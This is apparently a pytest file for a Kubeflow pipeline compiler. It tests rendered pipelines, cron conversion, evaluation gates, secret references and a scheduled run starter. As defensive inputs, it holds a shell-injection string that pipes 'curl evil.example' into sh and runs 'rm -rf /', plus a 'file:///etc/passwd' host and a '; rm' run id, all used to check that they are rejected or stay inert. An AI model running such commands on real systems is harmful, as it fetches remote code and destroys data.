"""The kubeflow target: every rendered file judged by the real consumers (strict kfp IR check,
kubernetes-validate --strict for CronJobs/ConfigMaps, the upstream KFP CRDs for Pipeline/PipelineVersion),
the golden tree, and unit tests for cron conversion, gate conditions, secrets and argument handling."""

from __future__ import annotations

import dataclasses
import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from tools import require_crds, require_module

from compiler.planning.plan import GatePlan, Plan, TolerationPlan
from compiler.render.serialize import serialize
from compiler.validation.kfp_ir import validate_pipeline
from compiler.validation.tree import validate_tree
from golden import GOLDEN, check_tree, render_examples
from targets.kubeflow import KubeflowSettings, KubeflowTarget, checks, evaluation_conditions, start_run
from targets.kubeflow.cron import kfp_cron, kubernetes_cron
from targets.kubeflow.ir import training_pipeline

TARGET = KubeflowTarget()


@pytest.fixture(scope="module")
def plans() -> list[Plan]:
    result = render_examples(TARGET)
    found = [s.plan for s in result.specs if s.plan is not None]
    assert found, "no example specs rendered"
    return found


def _plan(plans: list[Plan], name: str) -> Plan:
    return next(p for p in plans if p.name == name)


def _write(plans: list[Plan], settings: KubeflowSettings, root: Path) -> dict[str, list[Any]]:
    written: dict[str, list[Any]] = {}
    for plan in plans:
        for f in TARGET.render(plan, settings):
            path = root / f.path
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(serialize(f, [plan.provenance.spec_path]))
            written[f.path] = f.content
    return written


@pytest.mark.parametrize("native", [False, True], ids=["default", "kubernetes-native"])
def test_every_rendered_file_passes_the_real_validators(plans: list[Plan], tmp_path: Path, native: bool) -> None:
    require_module("kfp")
    require_module("kfp.kubernetes")
    crds = require_crds()
    settings = KubeflowSettings(kubernetesNative=native, multiUser=native, experimentId="e1" if native else None,
                                pipelineRoot="s3://kfp-artifacts" if native else None)
    written = _write(plans, settings, tmp_path)
    diags = validate_tree(tmp_path, crds)
    assert not diags, "\n".join(d.to_text() for d in diags)
    kinds = sorted({d.get("kind", "pipeline-ir") for docs in written.values() for d in docs
                    if isinstance(d, dict) and "platforms" not in d})
    expected = {"ConfigMap", "CronJob", "Kustomization", "pipeline-ir"}
    if native:
        expected |= {"Pipeline", "PipelineVersion"}
    assert expected <= set(kinds), kinds
    # Every pipeline went through the strict checker, not around it (a file the walker skips would pass).
    pipelines = [p for p in written if p.endswith("pipeline.yaml") and "/native" not in p]
    assert len(pipelines) >= len(plans)


def test_golden_tree(update_golden: bool) -> None:
    result = render_examples(TARGET)
    check_tree(result.files(), GOLDEN / "kubeflow", update_golden)


def test_the_runner_configmap_carries_the_committed_pipeline_compactly(plans: list[Plan], tmp_path: Path) -> None:
    """The ConfigMap's pipeline.json is one line of JSON (a transport copy: it was a fifth of a model's
    rendered bytes) whose data is exactly the pipeline file beside it, in the API form the runner posts."""
    settings = KubeflowSettings()
    written = _write(plans, settings, tmp_path)
    schedules = [p for p in written if p.endswith("schedule.yaml")]
    assert schedules
    for path in schedules:
        configmap = next(yaml.safe_load_all((tmp_path / path).read_bytes()))
        text = configmap["data"]["pipeline.json"]
        assert text.endswith("\n"), path
        assert text.count("\n") == 1, path
        pipeline_file = path.replace("schedule.yaml", "pipeline.yaml")
        docs = list(yaml.safe_load_all((tmp_path / pipeline_file).read_bytes()))
        expected = docs[0] if len(docs) == 1 else {"pipeline_spec": docs[0], "platform_spec": docs[1]}
        assert json.loads(text) == expected, path


def test_strict_checker_catches_a_broken_render(plans: list[Plan]) -> None:
    """Guards the test above: the validator must be able to fail on what this target emits."""
    require_module("kfp")
    rendered = training_pipeline(plans[0], KubeflowSettings())
    broken = json.loads(json.dumps(rendered.ir))
    task = next(iter(broken["root"]["dag"]["tasks"].values()))
    task["dependentTasks"] = ["no-such-step"]
    assert validate_pipeline(broken, rendered.platform)


# --- cron -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("five", "six"), [
    ("0 3 * * 1", "0 0 3 * * 1"),
    ("*/15 * * * *", "0 */15 * * * *"),
    ("30 2 1,15 * *", "0 30 2 1,15 * *"),
    ("@daily", "@daily"),
])
def test_cron_conversion_round_trips(five: str, six: str) -> None:
    assert kfp_cron(five) == six
    assert kubernetes_cron(six) == five


def test_cron_conversion_rejects_what_has_no_equivalent() -> None:
    with pytest.raises(ValueError, match="five-field"):
        kfp_cron("0 0 3 * * 1")
    with pytest.raises(ValueError, match="second"):
        kubernetes_cron("30 0 3 * * 1")


def test_cronjob_uses_five_fields_and_forbids_overlap(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    files = {f.path: f.content for f in TARGET.render(plan, KubeflowSettings())}
    cron = next(d for d in files["models/fraud-detector/kubeflow/schedule.yaml"] if d["kind"] == "CronJob")
    assert cron["spec"]["schedule"] == plan.pipeline.schedule == "0 3 * * 1"
    assert cron["spec"]["concurrencyPolicy"] == "Forbid"
    assert cron["metadata"]["annotations"]["mlspec.dev/kfp-cron"] == "0 0 3 * * 1"
    container = cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]
    assert container["command"] == ["python", "/etc/mlspec/runner/start_run.py"]
    assert container["args"][:2] == ["--host", "http://ml-pipeline-ui.kubeflow:80"]


def test_batch_model_gets_scoring_pipeline_and_its_own_schedule(plans: list[Plan]) -> None:
    batch = [p for p in plans if p.serving.batch is not None]
    # The examples are part of the repository: a missing batch example is a broken test, never a skip.
    assert batch, "no batch example spec under specs/"
    plan = batch[0]
    assert plan.serving.batch is not None
    files = {f.path: f.content for f in TARGET.render(plan, KubeflowSettings())}
    base = f"models/{plan.name}/kubeflow"
    ir = files[f"{base}/scoring-pipeline.yaml"][0]
    params = ir["root"]["inputDefinitions"]["parameters"]
    assert params["input_uri"]["defaultValue"] == plan.serving.batch.input
    assert params["output_uri"]["defaultValue"] == plan.serving.batch.output
    cron = next(d for d in files[f"{base}/scoring-schedule.yaml"] if d["kind"] == "CronJob")
    assert cron["spec"]["schedule"] == plan.serving.batch.schedule


# --- gates ----------------------------------------------------------------------------------------


def _gate(**kw: Any) -> GatePlan:
    base: dict[str, Any] = {"metric": "auc", "kind": "quality", "direction": "higher", "min": None, "max": None,
                            "baseline": False, "tolerance": 0.0, "tolerance_relative": False}
    return GatePlan(**{**base, **kw})


V = "inputs.parameter_values['pipelinechannel--evaluate-auc']"
B = "inputs.parameter_values['pipelinechannel--baseline_auc']"


@pytest.mark.parametrize(("gate", "terms"), [
    (_gate(min=0.92), [f"{V} >= 0.92"]),
    (_gate(max=50, direction="lower"), [f"{V} <= 50.0"]),  # a double literal: CEL does not mix int and double
    (_gate(min=0.9, max=1), [f"{V} >= 0.9", f"{V} <= 1.0"]),
    (_gate(baseline=True), [f"{V} >= {B}"]),
    (_gate(baseline=True, tolerance=0.005), [f"{V} >= {B} - 0.005"]),
    (_gate(baseline=True, tolerance=0.01, tolerance_relative=True), [f"{V} >= ({B} >= 0.0 ? {B} * 0.99 : {B} * 1.01)"]),
    (_gate(baseline=True, direction="lower", tolerance=2.0), [f"{V} <= {B} + 2.0"]),
    (_gate(baseline=True, direction="lower", tolerance=0.1, tolerance_relative=True),
     [f"{V} <= ({B} >= 0.0 ? {B} * 1.1 : {B} * 0.9)"]),
])
def test_gate_conditions(gate: GatePlan, terms: list[str]) -> None:
    assert evaluation_conditions.gate_terms(gate, "evaluate") == terms


def test_gates_guard_register_model_and_baselines_are_required(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    ir = training_pipeline(plan, KubeflowSettings()).ir
    root = ir["root"]
    cond = root["dag"]["tasks"]["condition-gates"]
    assert "register-model" not in root["dag"]["tasks"]
    assert "register-model" in ir["components"]["comp-condition-gates"]["dag"]["tasks"]
    assert cond["triggerPolicy"]["condition"] == " && ".join([
        f"{V} >= 0.92", f"{V} >= {B} - 0.005",
        "inputs.parameter_values['pipelinechannel--evaluate-latency_p99_ms'] <= 50.0"])
    assert cond["dependentTasks"] == [plan.pipeline.evaluation_step]
    # Fail closed: no default, so KFP refuses a run that does not say what production scores.
    assert root["inputDefinitions"]["parameters"]["baseline_auc"] == {"parameterType": "NUMBER_DOUBLE"}
    for key, value in (("data_hash", plan.data.hash), ("model_version", plan.model.version),
                       ("code_commit", plan.model.code_commit), ("model_uri", plan.model.uri)):
        assert root["inputDefinitions"]["parameters"][key]["defaultValue"] == value
        for task in ("validate-data", "train", "evaluate"):
            assert root["dag"]["tasks"][task]["inputs"]["parameters"][key] == {"componentInputParameter": key}
    outputs = ir["components"]["comp-evaluate"]["outputDefinitions"]["parameters"]
    assert outputs == {"auc": {"parameterType": "NUMBER_DOUBLE"}, "latency_p99_ms": {"parameterType": "NUMBER_DOUBLE"}}


# --- secrets and untrusted values -------------------------------------------------------------------


def test_secrets_are_references_never_values(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    rendered = training_pipeline(plan, KubeflowSettings())
    train = rendered.ir["deploymentSpec"]["executors"]["exec-train"]["container"]
    assert [e["name"] for e in train["env"]] == ["MLFLOW_TRACKING_URI"]  # the secret is not a literal env
    assert rendered.platform is not None
    k8s = rendered.platform["platforms"]["kubernetes"]["deploymentSpec"]["executors"]["exec-train"]
    assert k8s["secretAsEnv"][0]["secretName"] == "training-s3"
    assert k8s["secretAsEnv"][0]["keyToEnv"] == [{"envVar": "AWS_SECRET_ACCESS_KEY", "secretKey": "secret-access-key"}]


def _with_step(plan: Plan, **changes: Any) -> Plan:
    steps = list(plan.pipeline.steps)
    steps[0] = dataclasses.replace(steps[0], **changes)
    return dataclasses.replace(plan, pipeline=dataclasses.replace(plan.pipeline, steps=tuple(steps)))


def test_injection_attempt_in_a_step_arg_stays_one_argument(plans: list[Plan], tmp_path: Path) -> None:
    require_module("kfp")
    hostile = '"; curl evil.example | sh; echo \'$(id)` && rm -rf /'
    plan = _with_step(_plan(plans, "fraud-detector"), args=("--note", hostile))
    rendered = training_pipeline(plan, KubeflowSettings())
    container = rendered.ir["deploymentSpec"]["executors"][f"exec-{plan.pipeline.steps[0].name}"]["container"]
    assert container["args"] == ["--note", hostile]
    assert container["command"] == list(plan.pipeline.steps[0].command)  # no `sh -c` wrapper anywhere
    files = {f.path: f for f in TARGET.render(plan, KubeflowSettings())}
    text = serialize(files["models/fraud-detector/kubeflow/pipeline.yaml"], ["x"]).decode()
    reread = yaml.safe_load_all(text)
    ir = next(iter(reread))
    assert ir["deploymentSpec"]["executors"]["exec-validate-data"]["container"]["args"][1] == hostile
    (tmp_path / "p.yaml").write_text(text)
    assert not validate_tree(tmp_path, None)


# --- checks -----------------------------------------------------------------------------------------


def _codes(plan: Plan) -> list[str]:
    return [d.code for d in TARGET.check(plan, KubeflowSettings())]


def test_examples_have_no_kubeflow_findings(plans: list[Plan]) -> None:
    for plan in plans:
        assert [d for d in TARGET.check(plan, KubeflowSettings()) if d.is_error] == [], plan.name


def test_check_reserved_step_name_gpu_type_and_command(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    assert "KFP001" in _codes(_with_step(plan, name="register-model"))
    res = dataclasses.replace(plan.pipeline.steps[0].resources, gpu=1, gpu_type="")
    found = list(TARGET.check(_with_step(plan, resources=res), KubeflowSettings()))
    assert [(d.code, d.path) for d in found] == [("KFP003", ("pipeline", "steps", 0, "resources", "gpuType"))]
    assert "KFP004" in _codes(_with_step(plan, command=()))


def test_check_placeholders_and_tolerations(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    ok = _with_step(plan, args=("--data", "{{$.inputs.parameters['data_hash']}}"))
    assert "KFP005" not in _codes(ok)
    bad = _with_step(plan, args=("--x", "{{$.inputs.parameters['secret']}}"))
    assert [d.path for d in TARGET.check(bad, KubeflowSettings()) if d.code == "KFP005"] == [
        ("pipeline", "steps", 0, "args", 1)]
    newline = _with_step(plan, args=("--data", "{{$.inputs.parameters['data_hash']\n}}"))  # KFP reads no such ref
    assert "KFP005" in _codes(newline)
    bad_tol = (TolerationPlan("gpu", "Exists", "yes", "NoSchedule"),)
    found = [d for d in TARGET.check(_with_step(plan, tolerations=bad_tol), KubeflowSettings()) if d.code == "KFP006"]
    assert [d.path for d in found] == [("pipeline", "steps", 0, "tolerations", 0, "value")]
    assert "KFP006" not in _codes(_with_step(plan, tolerations=(TolerationPlan("gpu", "Exists", None, None),)))


def test_check_gate_metric_from_another_step(plans: list[Plan]) -> None:
    plan = _plan(plans, "fraud-detector")
    moved = _with_step(plan, metrics=("auc",))
    found = [d for d in TARGET.check(moved, KubeflowSettings()) if d.code == "KFP002"]
    assert [d.path for d in found] == [("gates", 0, "metric")]


def test_codes_are_documented() -> None:
    assert set(TARGET.codes) == set(checks.CODES)
    doc = (Path(__file__).resolve().parent.parent / "docs" / "kubeflow.md").read_text()
    for code in TARGET.codes:
        assert code in doc, code


# --- the runner the CronJob starts ----------------------------------------------------------------------


class _FakeKfp(http.server.BaseHTTPRequestHandler):
    runs: list[dict[str, Any]] = []
    requests: list[tuple[str, str, Any, str | None]] = []

    def _reply(self, body: Any) -> None:
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self) -> None:
        self.requests.append(("GET", self.path, None, self.headers.get("Authorization")))
        self._reply({"runs": self.runs})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.requests.append(("POST", self.path, body, self.headers.get("Authorization")))
        self._reply({"run_id": "r-1"})

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def kfp_api() -> Iterator[str]:
    _FakeKfp.runs, _FakeKfp.requests = [], []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _FakeKfp)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_runner_starts_a_run_with_the_committed_pipeline(plans: list[Plan], tmp_path: Path, kfp_api: str) -> None:
    rendered = training_pipeline(_plan(plans, "fraud-detector"), KubeflowSettings())
    (tmp_path / "pipeline.json").write_text(json.dumps(rendered.api_form()))
    params = tmp_path / "params"
    params.mkdir()
    (params / "baseline_auc").write_text("0.931")
    token = tmp_path / "token"
    token.write_text("tok\n")
    code = start_run.main(["--host", kfp_api, "--pipeline", str(tmp_path / "pipeline.json"), "--run-name",
                           "fraud-detector-train", "--param-dir", str(params), "--token-file", str(token),
                           "--experiment-id", "exp-1", "--skip-if-active"])
    assert code == 0
    (m1, path1, _, auth1), (m2, path2, body, auth2) = _FakeKfp.requests
    assert (m1, m2, path2) == ("GET", "POST", "/apis/v2beta1/runs")
    assert path1.startswith("/apis/v2beta1/runs?")
    assert auth1 == auth2 == "Bearer tok"
    assert body["pipeline_spec"] == rendered.api_form()
    assert body["runtime_config"] == {"parameters": {"baseline_auc": 0.931}}
    assert body["experiment_id"] == "exp-1"
    assert body["display_name"].startswith("fraud-detector-train-")


def test_runner_skips_while_a_run_is_active(tmp_path: Path, kfp_api: str) -> None:
    (tmp_path / "p.json").write_text("{}")
    _FakeKfp.runs = [{"run_id": "r-0", "display_name": "m-train-20260101-000000", "state": "RUNNING"}]
    code = start_run.main(["--host", kfp_api, "--pipeline", str(tmp_path / "p.json"), "--run-name", "m-train",
                           "--skip-if-active"])
    assert code == 0
    assert [r[0] for r in _FakeKfp.requests] == ["GET"]


def test_runner_refuses_a_non_http_host(tmp_path: Path) -> None:
    (tmp_path / "p.json").write_text("{}")
    assert start_run.main(["--host", "file:///etc/passwd", "--pipeline", str(tmp_path / "p.json"),
                           "--run-name", "x"]) == 2


def test_scheduled_runs_are_run_unique_and_accepted_by_kfp_server_api(plans: list[Plan], tmp_path: Path) -> None:
    """The CronJob's own arguments, run twice: KFP's models accept both requests, and the run ids (an input
    of every task, so part of every cache key) differ, so a retraining run cannot replay the cache."""
    from kfp_fake import FakeKfp

    from targets.kubeflow import schedule

    plan = _plan(plans, "fraud-detector")
    rendered = training_pipeline(plan, KubeflowSettings())
    for name, task in rendered.ir["root"]["dag"]["tasks"].items():
        assert {"componentInputParameter": "run_id"} in task["inputs"]["parameters"].values(), name
    assert "defaultValue" not in rendered.ir["root"]["inputDefinitions"]["parameters"]["run_id"]
    cron = schedule.cronjob(plan, KubeflowSettings(), rendered, "train", plan.pipeline.schedule)
    args = cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
    (tmp_path / "pipeline.json").write_text(json.dumps(rendered.api_form()))
    params = tmp_path / "params"
    params.mkdir()
    (params / "baseline_auc").write_text("0.931")
    with FakeKfp() as kfp:
        local = {"--host": kfp.url, "--pipeline": str(tmp_path / "pipeline.json"), "--param-dir": str(params)}
        argv = [local.get(args[i - 1], a) if i else a for i, a in enumerate(args)]
        assert start_run.main(argv) == 0
        assert start_run.main(argv) == 0
    assert kfp.problems == []
    ids = [run["runtime_config"]["parameters"]["run_id"] for run in kfp.runs]
    assert len(ids) == 2
    assert ids[0] != ids[1]
    # Each run writes its model under its own URI, never over the spec's immutable model_uri.
    uris = [run["runtime_config"]["parameters"]["model_output_uri"] for run in kfp.runs]
    assert uris == [f"{plan.model.uri}/runs/{run_id}" for run_id in ids]


def test_submit_needs_a_baseline_or_a_first_deployment(plans: list[Plan], tmp_path: Path) -> None:
    from targets.kubeflow import runs

    rendered = training_pipeline(_plan(plans, "fraud-detector"), KubeflowSettings())
    spec = rendered.api_form()
    with pytest.raises(runs.RunError, match="--first-deployment"):
        runs.run_parameters(spec, "42-1", None)
    assert runs.run_parameters(spec, "42-1", {"auc": 0.93}) == {
        "run_id": "42-1", "baseline_auc": 0.93, "model_output_uri": "s3://models/fraud-detector/12/runs/42-1"}
    # auc is higher-is-better: with nothing in production the comparison must hold for any candidate.
    assert runs.run_parameters(spec, "42-1", None, first_deployment=True)["baseline_auc"] == -1e308
    with pytest.raises(runs.RunError):
        runs.run_parameters(spec, "42 1; rm", None, first_deployment=True)


def test_prompt_pin_is_a_pipeline_parameter(plans: list[Plan]) -> None:
    """An LLM application's pipeline receives the prompt pin: a default on the root, an input of every
    task (a changed pin is a new cache key), and an argument of register-model."""
    plan = _plan(plans, "support-assistant")
    assert plan.model.prompt_sha256
    ir = training_pipeline(plan, KubeflowSettings()).ir
    root = ir["root"]["inputDefinitions"]["parameters"]
    assert root["prompt_sha256"]["defaultValue"] == plan.model.prompt_sha256
    assert root["prompt_path"]["defaultValue"] == plan.model.prompt_path
    for name, task in ir["root"]["dag"]["tasks"].items():
        assert {"componentInputParameter": "prompt_sha256"} in task["inputs"]["parameters"].values(), name
    register = ir["deploymentSpec"]["executors"]["exec-register-model"]["container"]["args"]
    assert register[register.index("--prompt-sha256") + 1] == "{{$.inputs.parameters['prompt_sha256']}}"
    arg = "{{$.inputs.parameters['prompt_sha256']}}"
    step = dataclasses.replace(plan.pipeline.steps[0], args=("--prompt-sha256", arg))
    steps = (step, *plan.pipeline.steps[1:])
    pinned = dataclasses.replace(plan, pipeline=dataclasses.replace(plan.pipeline, steps=steps))
    assert [d.code for d in checks.check(pinned) if d.code == "KFP005"] == []
    fraud = training_pipeline(_plan(plans, "fraud-detector"), KubeflowSettings()).ir
    assert "prompt_sha256" not in fraud["root"]["inputDefinitions"]["parameters"]


def test_only_pipelines_with_baselines_reference_the_params_configmap(plans: list[Plan]) -> None:
    """mlspec does not render `<model>-<purpose>-params`; a CronJob may depend on it only for what no
    default can hold (production's baselines)."""
    from targets.kubeflow import schedule
    from targets.kubeflow.ir import scoring_pipeline

    def volumes(plan: Plan, pipeline: Any, purpose: str) -> list[str]:
        cron = schedule.cronjob(plan, KubeflowSettings(), pipeline, purpose, "0 3 * * *")
        return [v["name"] for v in cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["volumes"]]

    churn = _plan(plans, "churn-scorer")
    scoring = scoring_pipeline(churn, KubeflowSettings())
    assert scoring is not None
    assert volumes(churn, scoring, "score") == ["runner"]
    fraud = _plan(plans, "fraud-detector")
    assert volumes(fraud, training_pipeline(fraud, KubeflowSettings()), "train") == ["runner", "params"]
